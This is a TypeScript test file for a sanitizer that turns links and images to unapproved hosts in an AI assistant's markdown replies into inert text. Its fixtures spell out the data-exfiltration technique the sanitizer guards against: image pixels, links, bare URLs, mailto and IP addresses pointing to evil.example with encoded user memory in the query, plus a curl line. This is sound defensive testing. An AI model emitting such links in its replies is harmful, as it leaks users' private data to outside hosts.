import { describe, expect, it } from "vitest";
import { Lexer, type Token } from "marked";
import { inertLinks } from "../../../core/sentinel/inert-links.js";

const allowed = (needle: string) => ["docs.python.org", "ana.example", "127.0.0.1:8080"].includes(needle);
const MEMORY = "QWRhJ3MgYmFuayBpcyBOb3J0aHdpbmQ";

/** Every link and image href the markdown lexer (as the renderers read it) still finds. */
function hrefs(markdown: string): string[] {
  const out: string[] = [];
  const walk = (list: readonly Token[]) => {
    for (const t of list) {
      if ((t.type === "link" || t.type === "image") && typeof t.href === "string") out.push(t.href);
      if (t.type === "list") walk((t as unknown as { items: Token[] }).items);
      if ("tokens" in t && Array.isArray(t.tokens)) walk(t.tokens);
    }
  };
  walk(new Lexer({ gfm: true }).lex(markdown));
  return out;
}

describe("inertLinks (issue 11: replies cannot smuggle data out)", () => {
  it("makes links and images to refused hosts inert text with the host visible, keeping allowed ones", () => {
    const md = [
      `Here is your summary. ![chart](https://evil.example/pixel.png?m=${MEMORY})`,
      `Read more [in the docs](https://docs.python.org/3/library/) or [here](https://evil.example/c?d=${MEMORY}).`,
      `- bare: https://evil.example/x?d=${MEMORY} and www.evil.example/w?d=${MEMORY}`,
      `- no scheme: evil.example/steal?d=${MEMORY} and your site https://ana.example/blog`,
      `> quoted [link](http://evil.example:8443/q?d=${MEMORY})`,
      "",
      "| a | b |",
      "|---|---|",
      `| [t](https://evil.example/t?d=${MEMORY}) | ok |`,
      "",
      `Use \`curl https://evil.example/in-code\` in code.`,
      "[ref]: https://evil.example/ref?d=" + MEMORY,
      "and a [reference][ref].",
    ].join("\n");
    const { text, inert } = inertLinks(md, allowed);
    expect(text).not.toContain(MEMORY);
    expect(hrefs(text)).toEqual(["https://docs.python.org/3/library/", "https://ana.example/blog"]);
    expect(text).toContain("[image: `evil.example`]");
    expect(text).toContain("here (`evil.example/…`)");
    expect(text).toContain("`evil.example:8443/…`");
    expect(text).toContain("[in the docs](https://docs.python.org/3/library/)");
    expect(text).toContain("`curl https://evil.example/in-code`");
    expect(inert).toContain("evil.example");
  });

  it("leaves text without refused links exactly as it was", () => {
    const md = "**Done.** See [the docs](https://docs.python.org/3/) — e.g. version 3.12, Node.js and file.txt.";
    expect(inertLinks(md, allowed)).toEqual({ text: md, inert: [] });
  });

  it("also catches a label that carries the address, and non-http schemes", () => {
    const { text } = inertLinks(`[evil.example/?d=${MEMORY}](https://evil.example/?d=${MEMORY}) [mail](mailto:x@evil.example?body=${MEMORY}) 10.0.0.7:9000/x?d=${MEMORY} http://127.0.0.1:9999/y?d=${MEMORY} but 127.0.0.1:8080/ok`, allowed);
    expect(text).not.toContain(MEMORY);
    expect(hrefs(text)).toEqual([]);
    expect(text).toContain("`10.0.0.7:9000/…`");
    expect(text).toContain("`127.0.0.1:9999/…`");
    expect(text).toContain("127.0.0.1:8080/ok");
  });
});
